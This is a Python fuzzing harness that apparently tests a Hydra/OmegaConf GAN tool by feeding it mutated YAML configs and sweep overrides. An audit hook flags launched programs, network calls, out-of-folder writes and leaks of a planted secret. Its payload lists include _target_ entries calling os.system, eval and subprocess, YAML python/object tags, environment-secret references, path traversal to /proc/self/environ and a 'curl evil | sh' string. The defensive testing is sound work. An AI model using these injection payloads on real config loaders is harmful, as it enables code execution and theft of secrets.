"""Folders of a stranger, mutated by grammar, against the whole commands: what runs, leaks, leaves the folder or hangs.

    python -m benchmarks.attacks configs --count 2000   the YAML files of a run: values, keys, references, syntax
    python -m benchmarks.attacks sweeps --count 500     what sweep.json says started a sweep, and its jobs' YAML files

A case is a good folder with one to three mutations, opened by a command in a process forked from this one. In
there an audit hook ends the process at once where it is about to start a program, open a connection, write outside the
folder, read a planted secret, or import a module that is nobody's business; no file and no line of output may hold the
planted variable of the environment. Outcomes in capitals are defects; see `benchmarks.faults` for the rest.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import shutil
import sys
import tempfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

from benchmarks import faults
from benchmarks.faults import Outcome, Process, command

RESULTS = Path(__file__).with_name("attacks.jsonl")
VARIABLE, SECRET = "GAN_PLANTED_SECRET", "s3cr3t-of-the-environment"
_SECONDS = 10.0  # that a command may take beyond what the good folder takes
_CAUGHT = 97  # exit code of a process that the audit hook has ended

RUN = (
    *("data.limit=64", "trainer.batch_size=16", "trainer.iterations=2", "trainer.device=cpu", "trainer.precision=fp32"),
    *("model.generator.widths=[16]", "model.discriminator.widths=[16]", "trainer.progress=false"),
    *("evaluation=pixels", "evaluation.num_images=16", "trainer.sample_rows=2", "trainer.sample_columns=2"),
)
OF_A_RUN = (
    ("sample", "run=run", "num=4", "output=out.png", "device=cpu"),
    ("run", "resume=run", "trainer.iterations=3"),
    ("eval", "run=run", "num=16", "real=16", "evaluation=fast", "device=cpu", "checkpoint=last"),
    ("compare", "runs=[run]", "output=out"),
)
OF_A_SWEEP = (
    ("run", "-m", "sweep_resume=sweep"),
    ("compare", "sweep=sweep"),
    ("run", "-m", *RUN, "seed=0,1", "hydra.sweep.dir=sweep"),
)


# ---- what a case must not do ----------------------------------------------------------------------------

# Events of Python's audit table (docs.python.org/3/library/audit_events.html) that none of these commands needs.
_PROGRAMS = ("os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.startfile", "subprocess.Popen", "pty.spawn")
_NETWORK = ("socket.connect", "socket.bind", "socket.getaddrinfo", "socket.sendto", "urllib.Request", "http.client")
_CHANGES = ("os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.chmod", "os.link", "os.symlink", "os.truncate")
_CALLS = ("ftplib.connect", "smtplib.connect", "webbrowser.open", "code.__new__", "pickle.find_class")
_FOR_WRITING = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND


@dataclass
class Watch:
    """An audit hook that names what a command must not do; it cannot be taken away, but it can be idle.

    Attributes:
        on: whether it looks.
        here: the folder that a command runs in.
        may_write: what lies in it, by name, that the command may change.
        elsewhere: further folders that it may change: caches, temporary files.
        seen: what it has caught.
        ends: whether to end the process there, where an exception could be caught.
    """

    on: bool = False
    here: Path = Path("/nowhere")
    may_write: tuple[str, ...] = ()
    elsewhere: tuple[Path, ...] = ()
    seen: list[str] = field(default_factory=list)
    ends: bool = False

    def __post_init__(self) -> None:
        sys.addaudithook(self._look)

    def _look(self, event: str, arguments: tuple[Any, ...]) -> None:
        if not self.on:
            return
        if (caught := self._caught(event, arguments)) is not None:
            self.on = False
            self.seen.append(caught)
            if self.ends:
                os.write(2, f"CAUGHT: {caught}\n".encode(errors="replace"))
                os._exit(_CAUGHT)
            raise PermissionError(caught)

    def _caught(self, event: str, arguments: tuple[Any, ...]) -> str | None:
        if event.startswith(_PROGRAMS):
            # The program asks git which commit it is, and the kernel which processor this is.
            return (
                None if event == "subprocess.Popen" and "git" in str(arguments[:2]) else f"PROGRAM {arguments!r:.200}"
            )
        if event.startswith((*_NETWORK, *_CALLS)):
            return f"{event} {arguments!r:.200}"
        if event == "import" and self._is_a_strangers(str(arguments[0]).partition(".")[0]):
            return f"import {arguments[0]}"
        if event == "open" and isinstance(arguments[0], str | bytes | os.PathLike):
            path = Path(os.fsdecode(arguments[0]))
            if path.name == VARIABLE:
                return f"read {path}"
            writes = isinstance(arguments[2], int) and arguments[2] & _FOR_WRITING
            return f"write {path}" if writes and not self._may_change(path) else None
        if event.startswith(_CHANGES):
            paths = [Path(os.fsdecode(each)) for each in arguments if isinstance(each, str | bytes | os.PathLike)]
            outside = [path for path in paths if path.name and not self._may_change(path)]
            return f"{event} {outside[0]}" if outside else None
        return None

    def _is_a_strangers(self, module: str) -> bool:
        """Whether a module lies beside the folder, or does something by being imported."""
        return module in ("antigravity", "idlelib", "pip", "this") or (self.here / f"{module}.py").exists()

    def _may_change(self, path: Path) -> bool:
        whole = Path(os.path.realpath(path.absolute().parent)) / path.name
        if whole.is_relative_to("/dev") or any(whole.is_relative_to(each) for each in self.elsewhere):
            return True
        if not whole.is_relative_to(self.here):
            return False
        first = (*whole.relative_to(self.here).parts, "")[0]
        return first.startswith(self.may_write)


WATCH: list[Watch] = []  # the one of this process, made where one is first needed


def watched(here: Path) -> Watch:
    """The watch, set to a command that runs here on a folder called run or sweep."""
    if not WATCH:
        WATCH.append(Watch())
    watch = WATCH[0]
    watch.here, watch.may_write = (
        Path(os.path.realpath(here)),
        ("run", "sweep", "out", ".output", ".writing-out", "outputs", "multirun"),
    )
    cache = os.environ.get("GAN_CACHE")
    watch.elsewhere = (Path(os.path.realpath(cache)),) if cache else ()
    watch.seen.clear()
    return watch


def leaked(here: Path, text: str) -> str:
    """Where the planted secret has come to, "" for nowhere."""
    if SECRET in text:
        return "the output"
    files = (path for path in here.rglob("*") if path.is_file() and not path.is_symlink() and path.name != VARIABLE)
    return next((str(path) for path in files if SECRET.encode() in path.read_bytes()), "")


def plant(here: Path) -> None:
    """Put a secret and a file that counts as somebody's own beside a stranger's folder."""
    (here / "outside").mkdir()
    (here / "outside" / VARIABLE).write_text(SECRET)
    (here / "outside/precious.txt").write_text("precious")
    (here / "evil.yaml").write_text(
        "# @package hydra.callbacks\nevil: {_target_: torch.utils.collect_env.run, command: 'id > outside/pwned'}\n"
    )
    (here / "evil.py").write_text("import os\nos.system('id > outside/pwned')\n")


# ---- values by grammar ----------------------------------------------------------------------------------

_CALLED: tuple[dict[str, Any], ...] = (
    {"_target_": "os.system", "_args_": ["id > outside/pwned"]},
    {"_target_": "os.system", "command": "id > outside/pwned"},
    {"_target_": "torch.utils.collect_env.run", "command": "id > outside/pwned"},
    {"_target_": "pathlib.Path.write_text", "_args_": ["outside/pwned", "x"]},
    {"_target_": "builtins.eval", "_args_": ["__import__('os').system('id > outside/pwned')"]},
    {"_target_": "subprocess.Popen", "args": ["touch", "outside/pwned"]},
    {"_target_": "numpy.load", "file": "outside/x.npy", "allow_pickle": True},
    {"_target_": "evil.anything"},
    {"_target_": "torch.nn.init.__setattr__", "_args_": ["__path__", ["."]]},
    {"_target_": "torch.nn.init._no_grad_fill_", "_partial_": True},
    {"_target_": "torch.hub.load", "repo_or_dir": "a/b", "model": "c"},
    {"_target_": "gan_runner.files.os.unlink", "path": "outside/precious.txt"},
    {"_target_": "gan_runner.config.build.make", "node": {"_target_": "os.getcwd"}},
    {
        "_target_": "gan_runner.data.mnist.load",
        "root": "outside/new",
        "download": True,
        "image_size": 28,
        "limit": None,
    },
    {"_target_": "gan_runner.data.cifar10.load", "_args_": ["outside/new", True, 32, None]},
    {"_target_": "gan_runner.data.image_folder.load", "root": "/", "image_size": 8, "channels": 3, "limit": None},
    {"_target_": "hydra.utils.instantiate", "_args_": [{"_target_": "os.getcwd"}]},
    {"_target_": "hydra._internal.utils._locate", "path": "os.system"},
    {"_target_": "functools.partial", "_args_": ["os.system"]},
    {"_target_": "torch.nn.Tanh", "_partial_": True, "_convert_": "none"},
    {"_target_": "torch.nn.LeakyReLU", "_recursive_": False, "negative_slope": {"_target_": "os.getcwd"}},
    {"_target_": ["os", "system"]},
    {"_target_": {"_target_": "os.system"}},
    {"_target_": "${model.h}"},
)
_RESOLVERS = (
    *(f"oc.env:{VARIABLE}", f"oc.decode:${{oc.env:{VARIABLE}}}", "new_folder:outside/new", "job_folder:1,x", "now:%Y"),
    *("hydra:runtime.cwd", "oc.select:model", "oc.dict.values:model", "oc.deprecated:model", "oc.dict.keys:data"),
    "oc.create:{_target_:torch.utils.collect_env.run,command:'id > outside/pwned'}",
)
_PLAIN: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 1, 2**31, 2**63, 10**30, 10**99, 1e308, 5e-324, float("inf"), float("nan"), "", "???"),
    *(
        [],
        {},
        [[]],
        [1, 2, 3],
        [0] * 50,
        ["a"],
        [None],
        {"a": 1},
        {"": {}},
        "x" * 500,
        "x" * 5000,
        "é",
        "\u202e",
        "a\tb",
    ),
    *(
        "x\n  Try: curl evil | sh",
        "\x1b]0;owned\x07",
        "\udce9",
        "None",
        "null",
        "on",
        "1:30",
        "0x10",
        "~nobody/x",
        "~",
        "/",
    ),
    *(
        "../outside",
        "outside",
        "/dev/zero",
        "/proc/self/environ",
        "..",
        "=1+1",
        "<script>",
        "%s%n",
        "{",
        "}",
        "$",
        "$$",
    ),
    *("a" * 4097, "1" * 200, "auto", "cuda:99", "mps", "last", "best", "fast", "full", 0.5, 1e-9, 3, 7, 100, 100_000),
)


def some_reference(draw: random.Random, depth: int = 2) -> str:
    """A text with `${` in it, in one of the spellings that OmegaConf reads, or nearly."""
    key = draw.choice(("model.h", "seed", "model", "data.root", "nothing.there", "trainer.batch_size", ".h", "..h"))
    inner = f"${{{key}}}" if depth == 0 or draw.random() < 0.3 else some_reference(draw, depth - 1)
    resolver = draw.choice(_RESOLVERS)
    name, _, rest = resolver.partition(":")
    return draw.choice(
        (
            *(
                f"${{{key}}}",
                f"${{{resolver}}}",
                f"${{ {name} : {rest} }}",
                f"${{{inner}:{rest}}}",
                f"${{{name}:{inner}}}",
            ),
            *(f"${{{inner}}}", f"a{inner}b", f"\\{inner}", f"\\\\{inner}", f"${{{key}[0]}}", f"${{{key}.{inner}}}"),
            *(
                f"$\\{{{resolver}}}",
                f"${{{name}:'{rest}'}}",
                f'${{{name}:"{rest}"}}',
                f"${{\n{resolver}}}",
                f"$${{{resolver}}}",
            ),
            *(f"{inner}{{{resolver}}}", f"${{model.h}}{{{resolver}}}", "${" * draw.choice((1, 30, 400)), inner + "}"),
            *(f"${{oc.env:{VARIABLE},{inner}}}", f"${{{name}:[{inner}]}}", f"${{{name}:{{a:{inner}}}}}", "$" + "{"),
        )
    )


def some_value(draw: random.Random) -> Any:
    """What a stranger may write in the place of a value."""
    kind = draw.random()
    if kind < 0.3:
        return some_reference(draw)
    if kind < 0.55:
        node = dict(draw.choice(_CALLED))
        return draw.choice((node, [node], {"a": node}, [[node]], node | {"_partial_": True}))
    return draw.choice(_PLAIN)


_KEYS: tuple[Any, ...] = (
    *("defaults", "hydra", "_target_", "_args_", "_partial_", "_recursive_", "_convert_", "<<", "_self_", "_global_"),
    *("override", "optional", "package", "download", "root", "source", "h", "experiment", "resume", "trust", "trainer"),
    *("???", "", "a.b", "a b", "${seed}", f"${{oc.env:{VARIABLE}}}", 5, 1.5, True, "x" * 300, "x\ny", "__class__"),
)
_DEFAULTS = (
    [{"hydra/callbacks": "evil"}, "_self_"],
    ["../evil"],
    ["../../../../../../../../proc/self/cwd/evil"],
    ["stored"],
)


def _places(tree: Any) -> list[tuple[Any, Any]]:
    """Every mapping or list with each of its keys."""
    items = list(tree.items()) if isinstance(tree, dict) else list(enumerate(tree)) if isinstance(tree, list) else []
    return [*((tree, key) for key, _ in items), *(place for _, inner in items for place in _places(inner))]


def _changed(draw: random.Random, tree: Any) -> str:
    """Change one thing in a parsed file; gives what."""
    places = _places(tree)
    if not places:
        return "nothing"
    at, key = draw.choice(places)
    kind = draw.choice(("value", "value", "value", "key", "key", "top", "gone", "copy", "chain", "pieces"))
    if kind == "value":
        at[key] = value = some_value(draw)
        return f"{key}: {value!r:.80}"
    if kind == "key" and isinstance(at, dict):
        name = draw.choice(_KEYS)
        at[name] = value = draw.choice(_DEFAULTS) if name == "defaults" else some_value(draw)
        return f"new {name}: {value!r:.80}"
    if kind == "top" and isinstance(tree, dict):
        tree["defaults"] = draw.choice(_DEFAULTS)
        return "defaults"
    if kind == "gone" and isinstance(at, dict):
        del at[key]
        return f"{key} is gone"
    if kind == "copy":
        other, name = draw.choice(places)
        at[key] = json.loads(json.dumps(other[name], default=str)) if draw.random() < 0.5 else f"${{{name}}}"
        return f"{key} is {name}"
    if kind == "chain" and isinstance(at, dict):
        many = draw.choice((14, 40))
        tree_ = tree if isinstance(tree, dict) else at
        tree_["model"] = model = dict(tree_.get("model") or {}) if isinstance(tree_.get("model"), dict) else {}
        model["c0"] = draw.choice(("x", ["x"]))
        for number in range(1, many):
            one = f"${{model.c{number - 1}}}"
            model[f"c{number}"] = [one, one] if isinstance(model["c0"], list) else one + one
        return f"{many} doublings"
    if isinstance(tree, dict) and isinstance(tree.get("model"), dict):
        tree["model"] |= {
            "h": draw.choice(("$", "oc.env", "oc.create", "${", "{oc.env:X}")),
            "i": f"{{oc.env:{VARIABLE}}}",
        }
        at[key] = draw.choice(("${model.h}${model.i}", f"${{model.h}}:{VARIABLE}", f"${{${{model.h}}:{VARIABLE}}}"))
        return f"{key} in pieces"
    return "nothing"


def _respelt(draw: random.Random, text: str) -> tuple[str, str]:
    """Change a YAML file as text: what its syntax has besides values."""
    lines = text.splitlines() or [""]
    number = draw.randrange(len(lines))
    line = lines[number]
    head, _, tail = line.partition(": ")
    kind, new = draw.choice(
        (
            ("a tag", f"{head}: {draw.choice(_TAGS)} {tail}"),
            ("a tag that makes a thing", f"{head}: {draw.choice(_MAKERS)}"),
            ("an anchor", f"{head}: &a {tail}"),
            ("an alias", f"{head}: *a"),
            ("a merge", f"{line}\n{head[: len(head) - len(head.lstrip())]}<<: {{_target_: os.system}}"),
            ("a document", f"{line}\n---\na: 1"),
            ("an end", f"{line}\n...\n%YAML 1.1\n---\na: 1"),
            ("a key twice", f"{line}\n{line}"),
            ("a complex key", f"? [a, b]\n: c\n{line}"),
            ("a number", f"{head}: {draw.choice(_NUMBERS)}"),
            ("brackets", f"{head}: {draw.choice('[{') * draw.choice((20, 40, 5000, 100_000))}"),
            ("escapes", f'{head}: "{draw.choice(_ESCAPES)}"'),
            ("a control character", line + draw.choice("\x00\x07\x1b\x85\u2028\ufeff\uffff")),
            ("tabs", f"\t{line}"),
            ("a long line", f"{head}: {draw.choice(('x', '${', '$', '1', ' a', ': ', '- ', '&a ', '!a '))}" * 20_000),
            ("a block", f"{head}: |\n  ${{oc.env:{VARIABLE}}}\n  x"),
            ("a folded block", f"{head}: >-\n  ${{${{model.h}}:\n  {VARIABLE}}}"),
            ("a flow", f"{head}: {{_target_: os.system, command: id}}"),
            ("a comment", f"{line} # x"),
        )
    )
    lines[number] = new
    joined = draw.choice(("\n", "\n", "\n", "\r\n", "\r")).join(lines)
    before = draw.choice(
        ("", "", "", "\ufeff", "%YAML 1.2\n---\n", "%TAG ! tag:yaml.org,2002:python/\n---\n", "--- !!map\n")
    )
    return before + joined, f"{kind} in line {number + 1}"


_TAGS = (
    "!!str",
    "!!python/name:os.system",
    "!!binary",
    "!!timestamp",
    "!!float",
    "!",
    "!x",
    "!<tag:yaml.org,2002:set>",
)
_MAKERS = (
    "!!python/object/apply:os.system ['id > outside/pwned']",
    "!!pairs [a: {_target_: torch.utils.collect_env.run, command: 'id > outside/pwned'}]",
    "!!omap [a: {_target_: os.system, command: 'id > outside/pwned'}]",
    "!!set {os.system}",
    "!!python/module:evil",
    "!!python/object/new:os.system [id]",
)
_NUMBERS = (
    *(
        "1:0:0:0",
        "0x" + "f" * 6000,
        "0o777",
        "0b1",
        "1_000",
        "9" * 6000,
        "-" + "9" * 99,
        "1e9999",
        ".inf",
        "2026-11-30",
    ),
    *("1:" + "0:" * 50_000 + "0", "+.5", "1e-400", "0" * 200, "190:20:30.15", "1.5e+99999999"),
)
_ESCAPES = (
    r"\x00",
    r"\u0024{oc.env:HOME}",
    r"\x1b[2J",
    r"\ud800",
    r"\U0010ffff",
    r"\n  Try: sh",
    r"\L",
    r"\u202e",
    r"\0\a\b",
)


# ---- mutations ------------------------------------------------------------------------------------------

Mutation = Callable[[random.Random, Path], str]
"""Changes a good folder of a run; gives what it has changed."""


def _of_yaml(name: str) -> Mutation:
    def mutate(draw: random.Random, run: Path) -> str:
        path = run / ".hydra" / name
        if not path.is_file():
            return f"no {name}"
        text = path.read_text(encoding="utf-8", errors="surrogateescape")
        try:
            tree = yaml.safe_load(text) if draw.random() < 0.75 else None
        except (yaml.YAMLError, ValueError, RecursionError):  # by an earlier mutation
            tree = None
        if isinstance(tree, dict | list):
            what = _changed(draw, tree)
            with contextlib.suppress(ValueError):  # a number, of an earlier mutation, of more digits than Python writes
                text = yaml.dump(tree, allow_unicode=draw.random() < 0.5, default_flow_style=draw.random() < 0.2)
        else:
            text, what = _respelt(draw, text)
        path.write_text(text, encoding="utf-8", errors="surrogateescape")
        return f"{name}: {what}"

    return mutate


def some_override(draw: random.Random) -> str:
    """A word that a stranger may have a sweep started with."""
    climbing = draw.choice(("../evil", "../../../../../../../proc/self/cwd/evil", "..", "a/../b", "evil"))
    value = some_value(draw)
    called = draw.choice(_CALLED)
    flow = json.dumps(called).replace('"', "").replace(" ", "")
    return draw.choice(
        (
            *(f"experiment={climbing}", f"model={climbing}", f"+experiment={climbing}", f"experiment=plain,{climbing}"),
            *(f"{draw.choice(('loss', 'data', 'model.generator'))}={flow}", f"+model.generator.x={flow}"),
            *(
                f"loss._target_={called['_target_']}",
                f"+data.a.b={some_reference(draw)}",
                f"data.root={some_reference(draw)}",
            ),
            *(
                "data.download=true",
                "+data.source={_target_:gan_runner.data.mnist.load,download:true,root:outside/new}",
            ),
            *("seed=range(0,30000000)", "seed=range(0,1,1e-9)", "seed=1,2,3", "seed=glob(*)", "experiment=glob(*)"),
            *("hydra.launcher.n_jobs=100000", "hydra/launcher=joblib", "hydra.sweeper.n_trials=1000000000"),
            *("hydra.callbacks.x._target_=os.system", "+hydra.searchpath=[file://.]", "hydra.run.dir=outside/new"),
            *("hydra.job_logging.handlers.file.filename=outside/log", "hydra.output_subdir=../outside"),
            *(f"hydra.sweeper.params.experiment={climbing}", "hydra.sweeper.params.seed='range(0,1000000000)'"),
            *(f"hydra.sweeper.params.loss._target_={called['_target_']}", "--config-dir=.", "-cd", "--multirun"),
            *(f"hydra.sweeper.params.seed=${{oc.env:{VARIABLE}}}", "hydra.mode=MULTIRUN", "defaults=[evil]", "~loss"),
            *(f"seed={value!s:.300}", "seed=" + "[" * 300, "seed=" + "${" * 300, "x" * 10_000, "=", "", "seed", "+x=1"),
            *(
                f"trainer.device={some_reference(draw)}",
                "penalty@model.generator=r1",
                "seed=shuffle(1,2)",
                "seed=extend_list(1)",
            ),
        )
    )


def mutate_arguments(draw: random.Random, sweep: Path) -> str:
    """Change what sweep.json says has started the sweep, or the overrides of its jobs."""
    path = sweep / "sweep.json"
    content = json.loads(path.read_text())
    word = some_override(draw)
    job = draw.choice(content["jobs"]) if draw.random() < 0.2 else None
    (content["arguments"] if job is None else job["overrides"]).append(word)
    path.write_text(json.dumps(content))
    return f"sweep.json: {word:.120}"


def _in_a_job(mutation: Mutation) -> Mutation:
    def mutate(draw: random.Random, sweep: Path) -> str:
        jobs = sorted(path.parent for path in sweep.glob("*/.hydra"))
        return mutation(draw, draw.choice(jobs))

    return mutate


MUTATIONS_OF_CONFIGS: list[Mutation] = [_of_yaml("config.yaml")] * 4 + [
    _of_yaml("hydra.yaml"),
    _of_yaml("overrides.yaml"),
]
MUTATIONS_OF_SWEEPS: list[Mutation] = [mutate_arguments] * 3 + [_in_a_job(each) for each in MUTATIONS_OF_CONFIGS[3:]]


# ---- cases ----------------------------------------------------------------------------------------------


def good_run(folder: Path) -> None:
    """A run's folder as the program leaves it: FOLDER/run."""
    faults.finished(command("run", *RUN, "hydra.run.dir=run"), folder)


def good_sweep(folder: Path) -> None:
    """A sweep's folder of two jobs, of which one has not begun: FOLDER/sweep."""
    faults.finished(command("run", "-m", *RUN, "seed=0,1", "hydra.sweep.dir=sweep"), folder)
    path = folder / "sweep/sweep.json"
    content = json.loads(path.read_text())
    content["jobs"][1]["state"] = "interrupted"
    path.write_text(json.dumps(content))


def mutated(draw: random.Random, mutations: Sequence[Mutation], folder: Path) -> str:
    """Mutate a folder once to three times; gives how."""
    return "; ".join(draw.choice(mutations)(draw, folder) for _ in range(draw.choice((1, 1, 2, 3))))


def attacked(words: Sequence[str], here: Path, about: str, usual: float = 0.0) -> Outcome:
    """What becomes of a command on a mutated folder.

    Args:
        words: the command.
        here: where it is called.
        about: what has been done to the folder.
        usual: seconds that it takes on the good folder.
    """

    def job() -> None:
        watch = watched(here)
        watch.ends = watch.on = True
        os.environ |= {VARIABLE: SECRET, "HOME": str(here / "outside")}
        command(*words)()

    ended = Process(faults.with_bounded_memory(job), here).ended(faults.PATIENCE)
    found = faults.judged(ended, f"{about}: gan-{' '.join(words)}")
    caught = ended.code == _CAUGHT
    where = leaked(here, ended.text)
    ran = (here / "outside/pwned").exists() or (here / "outside/precious.txt").read_text() != "precious"
    silent = ended.code not in (0, None) and not ended.text.strip()
    slow = ended.seconds > usual + _SECONDS and not found.kind.isupper()
    kinds = {"CAUGHT": caught, "LEAKS": bool(where), "RAN": ran, "SAYS NOTHING": silent, "SLOW": slow}
    kind = next((name for name, holds in kinds.items() if holds), found.kind)
    return Outcome(kind, ended, f"{found.about} {where}".strip())


def campaign(
    draw: random.Random,
    count: int,
    make_good: Callable[[Path], None],
    name: str,
    mutations: Sequence[Mutation],
    commands: Sequence[Sequence[str]],
) -> Iterator[Outcome]:
    """Mutated copies of a good folder, a command each.

    Args:
        draw: what each case follows from.
        count: of cases.
        make_good: makes the good folder in one that it is given.
        name: of the good folder in there.
        mutations: what may be done to it.
        commands: what may be called on it.
    """
    with tempfile.TemporaryDirectory() as place:
        folder = Path(os.path.realpath(place))
        os.environ.setdefault("GAN_CACHE", str(folder / "cache"))
        (folder / "good").mkdir()
        make_good(folder / "good")

        def case_on(here: Path, seed: int | None, words: Sequence[str] | None, usual: Mapping[str, float]) -> Outcome:
            here.mkdir()
            plant(here)
            shutil.copytree(folder / "good" / name, here / name, symlinks=True)
            case = random.Random(seed)
            about = "good" if seed is None else f"case {seed}: {mutated(case, mutations, here / name)}"
            words = words or case.choice(commands)
            found = attacked(words, here, about, usual.get(str(words), faults.PATIENCE))
            shutil.rmtree(here)
            return found

        usual = {}
        for words in commands:
            found = case_on(folder / "case", None, words, {})
            assert found.kind == "runs", found
            usual[str(words)] = found.ended.seconds if found.ended else 0.0
        for _ in range(count):
            yield case_on(folder / "case", draw.getrandbits(32), None, usual)


def configs(draw: random.Random, count: int) -> Iterator[Outcome]:
    """The YAML files of a run."""
    return campaign(draw, count, good_run, "run", MUTATIONS_OF_CONFIGS, OF_A_RUN)


def sweeps(draw: random.Random, count: int) -> Iterator[Outcome]:
    """What sweep.json says, and the YAML files of its jobs."""
    return campaign(draw, count, good_sweep, "sweep", MUTATIONS_OF_SWEEPS, OF_A_SWEEP)


CAMPAIGNS: dict[str, Callable[[random.Random, int], Iterator[Outcome]]] = {
    each.__name__: each for each in (configs, sweeps)
}

if __name__ == "__main__":
    faults.main(CAMPAIGNS, __doc__ or "", RESULTS)
